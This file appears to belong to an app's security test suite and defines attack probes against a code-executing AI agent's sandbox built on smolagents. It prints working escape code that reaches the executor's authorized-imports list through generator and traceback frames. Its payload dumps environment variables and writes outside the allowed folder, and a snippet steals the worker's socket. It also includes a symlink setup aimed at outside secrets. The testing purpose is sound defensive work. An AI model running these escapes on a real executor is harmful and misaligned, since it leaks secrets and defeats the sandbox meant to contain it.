"""What an attack probe is: the Probe and its result, and the code pieces probes share."""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from tests.attacks.runner import Context

PROJECT_ROOT = Path(__file__).resolve().parents[2]
STOPPED = "and was stopped"
RESULT_PREFIX = "PROBE-RESULT "
INITIAL_CANARY_VAR = "ATTACK_INITIAL_CANARY"
SHORT_DIR_VAR = "ATTACK_SHORT_DIR"
HEX_VAR = "ATTACK_HEX"
# Another session's ordinary turn, started while a bomb runs, must finish within this.
OTHER_TURN_LIMIT_S = 6.0
# A safety net for bombs that get through: the app process that runs them may not take more.
BOMB_APP_ADDRESS_SPACE = 6 * 1024**3
BROWSER_ID = "0b6c3b84-7f8c-4d35-8f4e-1f8f3c2e4a10"

# The settings every probe runs with (small limits keep the bombs fast).
BASE_SETTINGS = {
    "MAX_STEPS": "1",
    "CODE_MEMORY_MB": "256",
    "CODE_TIMEOUT_S": "3",
    "LANGFUSE_TIMEOUT_S": "2",
    "EVALUATORS_FILE": "off",
}


# --------------------------------------------------------------------------------------------
# Probes
# --------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Probe:
    """One attack. `code` is the model's action, with <<token>> placeholders (see Context.tokens)."""

    name: str
    category: str
    code: str
    why: str
    # Code run afterwards by ANOTHER session; it breaks through if its output contains the
    # value of `expect` (a key of Context.tokens, or "random_draws" for the seeded RNG probe).
    observer: str | None = None
    expect: str | None = None
    # Called with the context after the attacker's session exists, before its first turn.
    setup: Callable[[Context], None] | None = None
    settings: dict[str, str] = field(default_factory=dict)
    # False for bombs: they would freeze or exhaust an app that runs the code in-process.
    in_process_safe: bool = True
    # Run in a fresh app process (bombs always are): own initial environment, own memory.
    isolated_app: bool = False
    # Known to get through smolagents' in-process executor (CODE_EXECUTOR=local-unsafe).
    breaks_in_process: bool = True
    bomb: bool = False
    # The attacker's chat must not show the value of this token (e.g. another session's id).
    reveals: str | None = None
    # Watch the session folder after the turn: code still running once its step ended is a breach.
    lingers: bool = False


@dataclass(frozen=True)
class ProbeResult:
    name: str
    category: str
    blocked: bool
    detail: str
    seconds: float = 0.0

    def line(self) -> str:
        verdict = "BLOCKED" if self.blocked else "BREACHED"
        return f"{verdict:<8}  {self.category:<13}  {self.name:<28}  {self.detail}"


# Gets every import allowed by reaching smolagents' own `authorized_imports` list through a
# frame of the executor: first a generator's gi_frame, then a traceback handed to __exit__.
ESCAPE = """
routes = []
try:
    gen = (x for x in [0])
    gen.gi_frame.f_locals['authorized_imports'].append('*')
    routes.append('gi_frame')
except Exception as exc:
    routes.append('gi_frame failed: ' + str(exc))
try:
    class Grab:
        def __enter__(self):
            return self
        def __exit__(self, kind, value, tb):
            self.tb = tb
            return True
    grab = Grab()
    with grab:
        1 / 0
    tb = grab.tb
    while tb is not None:
        if 'authorized_imports' in tb.tb_frame.f_locals:
            tb.tb_frame.f_locals['authorized_imports'].append('*')
            routes.append('tb_frame')
        tb = tb.tb_next
except Exception as exc:
    routes.append('tb_frame failed: ' + str(exc))
import os
"""

# After an escape: what any foothold is used for. Each part reports instead of stopping the rest.
PAYLOAD = """
report = []
try:
    report.append('environ: ' + str(dict(os.environ)))
except Exception as exc:
    report.append('environ failed: ' + str(exc))
try:
    fd = os.open('<<marker_outside>>', os.O_WRONLY | os.O_CREAT, 420)
    os.write(fd, b'written by the model')
    os.close(fd)
    report.append('wrote a file outside the folder')
except Exception as exc:
    report.append('write failed: ' + str(exc))
final_answer(chr(10).join(report))
"""


# In a worker: the socket to the app, found in the frame of the worker's serve loop.
FIND_CHANNEL = """
holder = []
gen = (holder[0].gi_frame.f_back for x in [0])
holder.append(gen)
frame = next(gen)
channel = None
while frame is not None:
    if 'channel' in frame.f_locals:
        channel = frame.f_locals['channel']
    frame = frame.f_back
if channel is None:
    final_answer('no channel to the app here')
"""


def _escape_then(body: str) -> str:
    return ESCAPE + body


def _format_env(expression: str, setup_line: str) -> str:
    """Read the environment through str.format field traversal (the dunders are inside a string)."""
    return f"{setup_line}\nfinal_answer({expression})"


def _symlinks(ctx: Context) -> None:
    folder = ctx.files_dir / ctx.attacker_id
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "link.txt").symlink_to(ctx.outside_secret)
    (folder / "outside_dir").symlink_to(ctx.outside_dir, target_is_directory=True)
